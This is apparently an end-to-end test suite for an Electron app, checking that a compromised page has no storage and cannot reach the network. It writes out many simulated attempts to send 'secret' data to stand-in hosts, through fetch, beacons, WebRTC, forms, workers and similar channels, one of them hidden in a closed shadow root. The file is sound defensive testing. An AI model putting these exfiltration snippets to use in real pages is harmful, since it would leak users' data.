// What leaves a page that was taken over, by any way a browser knows: nothing. Someone listens, and must hear nothing.
import path from 'node:path'
import type { Page } from 'playwright'
import { describe } from 'vitest'
import type { StintApp } from '../support/app'
import { expect } from '../support/expect'
import { test as base } from '../support/fixtures'
import { Listeners } from '../support/listeners'
import { contactedHosts, netLogTo } from '../support/net-log'
import { welcome } from '../support/pages'

/** The address to which pages' connections are sent, and where no one is. */
const NOWHERE = '127.0.0.1:1'
/** Longer than Chromium takes for any of these. */
const MEANWHILE_MS = 4_000

/** A test with someone who listens, and an app that notes whom it contacts. */
const test = base
  .extend('listeners', async ({ task: _ }, { onCleanup }) => {
    const listeners = await Listeners.start()
    onCleanup(() => listeners.stop())
    return listeners
  })
  .extend('notes', ({ folder }) => path.join(folder, 'net-log.json'))
  .extend('open', ({ launch, notes }) => {
    return async (): Promise<{ app: StintApp; page: Page }> => {
      const app = await launch({ args: [netLogTo(notes)] })
      const page = await app.window()
      await expect(welcome(page)).toBeVisible()
      return { app, page }
    }
  })

/** Servers for a call from browser to browser: those who listen, and hosts that have to be looked up first. */
function iceServers({ udpPort, tcpPort }: Listeners, ...hosts: string[]): RTCIceServer[] {
  const turn = [`127.0.0.1:${udpPort}?transport=udp`, `127.0.0.1:${tcpPort}?transport=tcp`, ...hosts]
  return [
    { urls: [`stun:127.0.0.1:${udpPort}`, ...hosts.map((host) => `stun:${host}`)] },
    { urls: turn.map((server) => `turn:${server}`), username: 'a', credential: 'b' },
    { urls: `turns:127.0.0.1:${tcpPort}?transport=tcp`, username: 'a', credential: 'b' },
  ]
}

describe('a page', () => {
  test('has no storage of its own: what is kept is kept by the main process', async ({ open }) => {
    const { app, page } = await open()
    const found = await page.evaluate(() => {
      const names = ['localStorage', 'sessionStorage', 'indexedDB', 'caches', 'cookieStore']
      return [...names, 'webkitRequestFileSystem'].filter((name) => name in globalThis)
    })
    expect(found).toEqual([])
    expect(await page.evaluate(() => 'storage' in navigator)).toBe(false)
    await app.quit()
  })
})

describe('a call from browser to browser', () => {
  test('cannot be made by a page: it has no constructor for it', async ({ open, listeners, notes }) => {
    const { app, page } = await open()
    const found = await page.evaluate(() =>
      ['RTCPeerConnection', 'webkitRTCPeerConnection'].filter((name) => name in globalThis),
    )
    expect(found).toEqual([])
    await app.quit()
    expect(listeners.heard).toEqual([])
    expect(contactedHosts(notes)).toEqual([])
  })

  test('cannot be made with the constructor of a frame: the page is ended before', async ({
    open,
    listeners,
    notes,
  }) => {
    const { app, page } = await open()
    const ended = page.waitForEvent('crash')
    const attempt = page.evaluate(
      ({ iceServers, ms }) => {
        const frame = document.createElement('iframe')
        // Where a watching page would not look.
        document.createElement('div').attachShadow({ mode: 'closed' }).append(frame)
        document.body.append((frame.getRootNode() as ShadowRoot).host)
        const { RTCPeerConnection: Connection } = frame.contentWindow as unknown as typeof globalThis
        const call = new Connection({ iceServers })
        call.createDataChannel('secrets')
        void call.setLocalDescription()
        // A page that is busy hears of nothing that could stop it.
        const end = performance.now() + ms
        while (performance.now() < end);
      },
      { iceServers: iceServers(listeners, 'secret.example.com'), ms: MEANWHILE_MS },
    )
    await expect(attempt).rejects.toThrow()
    await ended
    await expect
      .poll(() => app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getTitle()))
      .toBe('Stint')
    await app.quit()
    expect(listeners.heard).toEqual([])
    expect(contactedHosts(notes)).toEqual([])
  })

  test('reaches no one also with a constructor: there is no way to the network', async ({
    open,
    listeners,
    notes,
  }) => {
    const { app } = await open()
    const gathered = await app.electron.evaluate(async ({ BrowserWindow }, iceServers) => {
      // A page without our preload still has the constructor.
      const window = new BrowserWindow({ show: false })
      await window.loadURL('app://stint/')
      return (await window.webContents.executeJavaScript(`
          new Promise((resolve) => {
            const call = new RTCPeerConnection({ iceServers: ${JSON.stringify(iceServers)} })
            const found = []
            call.onicecandidate = ({ candidate }) => candidate === null ? resolve(found) : found.push(candidate.candidate)
            call.createDataChannel('secrets')
            call.setLocalDescription()
          })`)) as string[]
    }, iceServers(listeners))
    await app.quit()
    expect(gathered.filter((candidate) => candidate !== '')).toEqual([])
    expect(listeners.heard).toEqual([])
    expect(contactedHosts(notes)).toEqual([NOWHERE])
  })
})

test('no other way leads out of a page either', async ({ open, listeners, notes }) => {
  const { app, page } = await open()
  await page.evaluate(
    async ({ port, ms }) => {
      const there = (way: string) => [`http://127.0.0.1:${port}/${way}`, `https://${way}.example.com/`]
      const each = (way: string, go: (url: string) => unknown) => {
        for (const url of there(way)) {
          try {
            void Promise.resolve(go(url)).catch(() => undefined)
          } catch {
            // Refused at once.
          }
        }
      }
      const add = <Name extends keyof HTMLElementTagNameMap>(name: Name, facts: object) => {
        const element = Object.assign(document.createElement(name), facts)
        document.body.append(element)
        return element
      }
      const rels = 'preconnect dns-prefetch prefetch prerender preload modulepreload stylesheet icon manifest'
      for (const rel of rels.split(' ')) each(rel, (href) => add('link', { rel, href, as: 'image' }))
      each('websocket', (url) => new WebSocket(url.replace('http', 'ws')))
      each('webtransport', (url) => new WebTransport(url.replace('http:', 'https:')))
      each('events', (url) => new EventSource(url))
      each('beacon', (url) => navigator.sendBeacon(url, 'secret'))
      each('fetch', (url) => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }))
      each('request', (url) => {
        const request = new XMLHttpRequest()
        request.open('POST', url)
        request.send('secret')
      })
      each('open', (url) => window.open(url))
      each('form', (action) => add('form', { action, method: 'post' }).submit())
      each('blank', (action) => add('form', { action, target: '_blank' }).submit())
      each('ping', (ping) => add('a', { href: '#', ping }).click())
      each('image', (src) => add('img', { src }))
      each('audio', (src) => add('audio', { src }).play())
      each('style', (url) => (document.body.style.backgroundImage = `url(${url})`))
      each('font', (url) => new FontFace('Secret', `url(${url})`).load())
      each('script', (src) => add('script', { src }))
      each('worker', (url) => new Worker(url))
      each('service-worker', (url) => navigator.serviceWorker.register(url))
      each('rules', (url) =>
        add('script', {
          type: 'speculationrules',
          textContent: JSON.stringify({ prefetch: [{ urls: [url] }] }),
        }),
      )
      each('leave', (url) => location.assign(url))
      await new Promise((resolve) => setTimeout(resolve, ms))
    },
    { port: listeners.tcpPort, ms: MEANWHILE_MS },
  )
  await app.quit()
  expect(listeners.heard).toEqual([])
  expect(
    contactedHosts(notes).filter((host) => host !== NOWHERE && !host.endsWith(`:${listeners.tcpPort}`)),
  ).toEqual([])
})
